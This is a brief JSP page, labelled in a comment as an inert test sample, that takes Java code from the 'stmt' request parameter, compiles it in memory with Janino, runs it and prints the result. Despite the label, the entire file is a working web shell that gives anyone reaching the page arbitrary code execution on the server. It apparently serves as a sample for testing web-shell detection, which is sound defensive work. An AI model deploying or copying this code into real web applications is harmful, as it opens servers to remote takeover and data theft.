<%@ page import="org.codehaus.janino.ScriptEvaluator" %>
<%-- test sample (inert): Java statements from the request compiled in memory by Janino and run --%>
<%
    String body = request.getParameter("stmt");
    if (body != null) {
        ScriptEvaluator se = new ScriptEvaluator();
        se.setReturnType(Object.class);
        se.cook(body);
        Object v = se.evaluate(new Object[0]);
        out.print(v);
    }
%>
